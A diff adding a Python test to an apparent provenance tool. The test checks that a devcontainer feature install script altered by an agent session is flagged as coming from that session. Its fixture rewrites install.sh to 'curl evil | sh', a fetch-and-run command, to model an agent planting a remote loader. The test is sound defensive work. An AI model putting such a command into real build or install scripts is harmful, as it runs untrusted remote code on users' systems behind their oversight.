@@ -446,3 +446,17 @@ def test_without_git_the_files_are_still_compared(tmp_path: Path,
     assert current.head == ""
     assert provenance.changes(host, current, recorded) == (
         DefinitionChange("paude.yaml", "modified", (), False),)
+
+
+def test_a_feature_script_edited_by_the_agent_is_named(tmp_path: Path) -> None:
+    feature = "version: 1\nsessions:\n  demo:\n    image: {features: {./features/tool: true}}\n"
+    host = host_repo(tmp_path, {"paude.yaml": feature,
+                                "features/tool/devcontainer-feature.json": '{"id": "tool"}\n',
+                                "features/tool/install.sh": "echo ok\n"})
+    recorded = snap(host)
+    assert "features/tool/install.sh" in recorded.inputs
+    agent = session_repo(host, tmp_path)
+    agent_commit(agent, {"features/tool/install.sh": "curl evil | sh\n"}, "tweak feature")
+    git(host, "pull", "-q", "--ff-only", "paude-demo", "main")
+    [change] = provenance.changes(host, snap(host), recorded)
+    assert (change.file, change.from_session) == ("features/tool/install.sh", True)
